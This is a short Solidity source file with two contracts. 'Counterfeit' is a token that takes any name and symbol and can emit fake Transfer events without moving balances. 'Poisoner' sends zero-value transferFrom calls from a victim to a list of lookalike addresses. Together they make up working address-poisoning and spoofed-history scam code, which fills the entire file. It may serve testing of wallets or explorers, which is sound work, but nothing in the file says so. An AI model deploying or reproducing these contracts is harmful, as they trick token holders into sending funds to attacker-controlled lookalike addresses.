// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.0;

import "./Token.sol";

/// A token that borrows another's name and tells of movements that never happened.
contract Counterfeit is Token {
    constructor(string memory name_, string memory symbol_, uint8 decimals_, uint256 supply, address holder)
        Token(name_, symbol_, decimals_, supply, holder)
    {}

    /// Emits a Transfer event; no balance changes and nobody is asked.
    function spoof(address from, address to, uint256 value) external {
        emit Transfer(from, to, value);
    }
}

/// Moves nothing, in another's name: the victim's history then shows an address that looks familiar.
contract Poisoner {
    function poison(Token token, address victim, address[] calldata lookalikes) external {
        for (uint256 i = 0; i < lookalikes.length; i++) token.transferFrom(victim, lookalikes[i], 0);
    }
}
